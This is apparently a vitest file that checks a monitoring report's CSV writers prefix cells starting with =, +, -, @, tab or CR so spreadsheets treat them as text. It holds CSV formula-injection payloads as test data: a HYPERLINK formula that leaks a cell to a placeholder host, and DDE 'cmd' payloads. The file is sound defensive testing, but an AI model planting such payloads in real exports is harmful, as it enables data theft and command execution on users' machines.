// CSV formula injection (issue #14, finding 7): a free text that begins with =, +, -, @, a tab or a carriage
// return reaches a CSV (the kinds of force in the monitoring report are free text written by officers); a
// spreadsheet would run it as a formula. Every CSV writer neutralises such a cell with a leading ' (OWASP);
// numbers stay numbers. The attack: write each payload through the monitoring report's CSV, the shared
// server writer and the web's writer, parse the CSV back, and assert no cell starts a formula.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/api/csv.ts';
import { reportCsv } from '../../src/api/monitoring-report.ts';
import { csvLine, neutraliseCsvText } from '../../src/domain/csv-cell.ts';
import type { MonitoringIndicators } from '../../src/store/monitoring.ts';
import { NO_GUARANTEE_INDICATORS, NO_RETURN_INDICATORS } from '../../src/store/monitoring-indicators.ts';

const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** A cell a spreadsheet would evaluate: it starts with one of the formula characters. */
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

const indicators = (kinds: string[]): MonitoringIndicators => ({
  state: 'LT',
  from: '2026-12-01',
  to: '2026-12-31',
  timeZone: 'Europe/Vilnius',
  asOf: '2027-01-15T08:00:00.000Z',
  registrationWithinDeadline: {
    legalBasis: 'basis',
    asylumWishes: 0,
    withinDeadline: 0,
    late: 0,
    notRegisteredOverdue: 0,
    notRegisteredNotYetDue: 0,
    known: 0,
    share: null,
  },
  refusalsAfterWish: { legalBasis: 'basis', refused: 0, afterWish: 0, laterRegistered: 0 },
  deadlines: { legalBasis: 'basis', byKind: [] },
  detentionsIrregularEntryOnly: { legalBasis: 'basis', detentions: 0, irregularEntryOnly: 0, share: null },
  useOfForce: {
    legalBasis: 'basis',
    encounters: kinds.length,
    withForce: kinds.length,
    persons: kinds.length,
    byKind: kinds.map((kind) => ({ kind, encounters: 1, persons: 1 })),
  },
  ...NO_GUARANTEE_INDICATORS,
  ...NO_RETURN_INDICATORS,
});

describe('CSV formula injection', () => {
  it('the monitoring report CSV: a kind of force beginning with =, +, -, @, tab or CR is neutralised', () => {
    const rows = parse(reportCsv(indicators(PAYLOADS), { public: false }), { columns: true }) as Record<
      string,
      string
    >[];
    const groups = rows.filter((r) => r.measure === 'byKind.encounters').map((r) => r.group as string);
    // each payload is there, as text: prefixed with ', and otherwise unchanged
    expect(groups).toEqual(PAYLOADS.map((p) => `'${p}`));
    for (const r of rows) for (const cell of Object.values(r)) expect(startsFormula(cell), cell).toBe(false);
  });

  it('the shared writer and the web writer: text neutralised, numbers (negative ones too) kept', () => {
    for (const p of PAYLOADS) expect(neutraliseCsvText(p)).toBe(`'${p}`);
    expect(neutraliseCsvText('Medininkai')).toBe('Medininkai');
    const server = parse(toCsv(PAYLOADS.map((text, i) => ({ text, n: -i - 1, amount: '-12.50' }))), {
      columns: true,
    }) as Record<string, string>[];
    expect(server.map((r) => r.text)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(server.map((r) => r.n)).toEqual(['-1', '-2', '-3', '-4', '-5', '-6']);
    expect(server.every((r) => r.amount === '-12.50')).toBe(true);
    const web = parse(PAYLOADS.map((p, i) => csvLine([p, -i, '-0.50'])).join('\n'), {
      relax_column_count: true,
    }) as string[][];
    expect(web.map((r) => r[0])).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(web.map((r) => r[1])).toEqual(['0', '-1', '-2', '-3', '-4', '-5']);
    expect(web.every((r) => r[2] === '-0.50')).toBe(true);
  });
});
